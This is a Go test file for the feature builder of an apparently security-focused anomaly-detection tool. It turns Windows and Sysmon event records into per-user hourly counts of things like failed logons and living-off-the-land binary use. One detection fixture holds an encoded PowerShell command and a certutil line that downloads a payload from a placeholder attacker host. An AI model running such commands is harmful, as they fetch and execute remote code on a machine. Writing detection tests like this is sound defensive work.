package features_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/strixlabs/strix-anomaly/internal/features"
	"github.com/strixlabs/strix-anomaly/internal/models"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func fixedClock(t time.Time) func() time.Time {
	return func() time.Time { return t }
}

func TestBuildPerUser(t *testing.T) {
	builder := features.NewBuilder(features.DefaultTable())

	t.Run("empty input yields no rows", func(t *testing.T) {
		rows := builder.BuildPerUser(nil)
		assert.Empty(t, rows)
	})

	t.Run("events without a user are dropped", func(t *testing.T) {
		rows := builder.BuildPerUser([]models.EventRecord{
			{User: "", Severity: "Error"},
			{User: "   ", Severity: "Error"},
		})
		assert.Empty(t, rows)
	})

	t.Run("vector layout", func(t *testing.T) {
		events := []models.EventRecord{
			{User: "alice", Severity: "Information", Details: "Logon FAILED for account", Process: "lsass.exe", Source: "Security-Auditing"},
			{User: "alice", Severity: "Error", Process: "lsass.exe", Source: "Security-Auditing"},
			{User: "alice", Severity: "Critical", Process: "svchost.exe", Source: "SCM"},
			{User: "alice", Severity: "Audit Failure", Details: "failed"},
			{User: "alice", Severity: "Warning"},
			{User: "bob", Severity: "Information"},
		}

		rows := builder.BuildPerUser(events)
		require.Len(t, rows, 2)

		// Sorted by key.
		require.Equal(t, "alice", rows[0].Key)
		require.Equal(t, "bob", rows[1].Key)

		require.Len(t, rows[0].Features, features.WindowDims)
		assert.Equal(t, []float64{5, 2, 3, 1, 2, 2}, rows[0].Features)
		assert.Equal(t, []float64{1, 0, 0, 0, 0, 0}, rows[1].Features)
	})

	t.Run("failed match is case-insensitive substring", func(t *testing.T) {
		rows := builder.BuildPerUser([]models.EventRecord{
			{User: "carol", Details: "An account FaIlEd to log on"},
		})
		require.Len(t, rows, 1)
		assert.Equal(t, float64(1), rows[0].Features[1])
	})
}

func TestBuildPerUserHourly(t *testing.T) {
	now := time.Date(2026, 8, 31, 14, 30, 0, 0, time.UTC)
	builder := features.NewBuilder(features.DefaultTable(), features.WithClock(fixedClock(now)))

	stamp := func(t time.Time) string { return t.Format(time.RFC3339) }

	t.Run("key format includes the hour bucket", func(t *testing.T) {
		rows := builder.BuildPerUserHourly([]models.EventRecord{
			{Time: stamp(now.Add(-20 * time.Minute)), User: "alice"},
		}, 0)
		require.Len(t, rows, 1)
		assert.Equal(t, "alice | 08-31 14:00", rows[0].Key)
		assert.Len(t, rows[0].Features, features.HourlyDims)
	})

	t.Run("unparseable and stale events are discarded", func(t *testing.T) {
		rows := builder.BuildPerUserHourly([]models.EventRecord{
			{Time: "not a timestamp", User: "alice"},
			{Time: "", User: "alice"},
			{Time: stamp(now.Add(-25 * time.Hour)), User: "alice"},
		}, 0)
		assert.Empty(t, rows)
	})

	t.Run("lookback override keeps older events", func(t *testing.T) {
		rows := builder.BuildPerUserHourly([]models.EventRecord{
			{Time: stamp(now.Add(-25 * time.Hour)), User: "alice"},
		}, 48*time.Hour)
		assert.Len(t, rows, 1)
	})

	t.Run("events without a user fall under Unknown", func(t *testing.T) {
		rows := builder.BuildPerUserHourly([]models.EventRecord{
			{Time: stamp(now.Add(-10 * time.Minute)), User: ""},
		}, 0)
		require.Len(t, rows, 1)
		assert.Equal(t, "Unknown | 08-31 14:00", rows[0].Key)
	})

	t.Run("same user in different hours yields separate rows", func(t *testing.T) {
		rows := builder.BuildPerUserHourly([]models.EventRecord{
			{Time: stamp(now.Add(-10 * time.Minute)), User: "alice"},
			{Time: stamp(now.Add(-90 * time.Minute)), User: "alice"},
		}, 0)
		assert.Len(t, rows, 2)
	})

	t.Run("failed logon counted at both indices", func(t *testing.T) {
		rows := builder.BuildPerUserHourly([]models.EventRecord{
			{
				Time:    stamp(now.Add(-5 * time.Minute)),
				User:    "alice",
				Channel: features.ChannelSecurity,
				EventID: features.EventIDFailedLogon,
			},
		}, 0)
		require.Len(t, rows, 1)
		assert.Equal(t, float64(1), rows[0].Features[1])
		assert.Equal(t, float64(1), rows[0].Features[10])
	})

	t.Run("sysmon event codes map to dedicated dimensions", func(t *testing.T) {
		mk := func(id int) models.EventRecord {
			return models.EventRecord{
				Time:    stamp(now.Add(-5 * time.Minute)),
				User:    "alice",
				Channel: features.ChannelSysmon,
				EventID: id,
			}
		}
		rows := builder.BuildPerUserHourly([]models.EventRecord{
			mk(features.EventIDProcessCreate),
			mk(features.EventIDNetworkConnect),
			mk(features.EventIDFileCreate),
		}, 0)
		require.Len(t, rows, 1)
		assert.Equal(t, float64(1), rows[0].Features[6])
		assert.Equal(t, float64(1), rows[0].Features[7])
		assert.Equal(t, float64(1), rows[0].Features[11])
		// Non-Sysmon channel with the same code does not count.
		rows = builder.BuildPerUserHourly([]models.EventRecord{
			{Time: stamp(now.Add(-5 * time.Minute)), User: "alice", Channel: "System", EventID: features.EventIDProcessCreate},
		}, 0)
		require.Len(t, rows, 1)
		assert.Equal(t, float64(0), rows[0].Features[6])
	})

	t.Run("lolbin and suspicious command dimensions", func(t *testing.T) {
		rows := builder.BuildPerUserHourly([]models.EventRecord{
			{
				Time:        stamp(now.Add(-5 * time.Minute)),
				User:        "alice",
				Image:       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				CommandLine: "powershell -EncodedCommand SQBFAFgA",
			},
			{
				Time:    stamp(now.Add(-5 * time.Minute)),
				User:    "alice",
				Process: "certutil.exe",
				Details: "certutil -urlcache -f http://evil.example/p.bin",
			},
			{
				Time:    stamp(now.Add(-5 * time.Minute)),
				User:    "alice",
				Process: "notepad.exe",
				Details: "opened a document",
			},
		}, 0)
		require.Len(t, rows, 1)
		assert.Equal(t, float64(2), rows[0].Features[8], "lolbin executions")
		assert.Equal(t, float64(2), rows[0].Features[9], "suspicious command lines")
	})

	t.Run("total counts every event in the bucket", func(t *testing.T) {
		events := make([]models.EventRecord, 7)
		for i := range events {
			events[i] = models.EventRecord{
				Time: stamp(now.Add(-time.Duration(i) * time.Minute)),
				User: "alice",
			}
		}
		rows := builder.BuildPerUserHourly(events, 0)
		require.Len(t, rows, 1)
		assert.Equal(t, float64(7), rows[0].Features[0])
	})
}

func TestHourlyKey(t *testing.T) {
	bucket := time.Date(2026, 1, 2, 3, 0, 0, 0, time.UTC)
	assert.Equal(t, "dave | 01-02 03:00", features.HourlyKey("dave", bucket))
	assert.Equal(t, fmt.Sprintf("dave | %s:00", bucket.Format("01-02 15")), features.HourlyKey("dave", bucket))
}
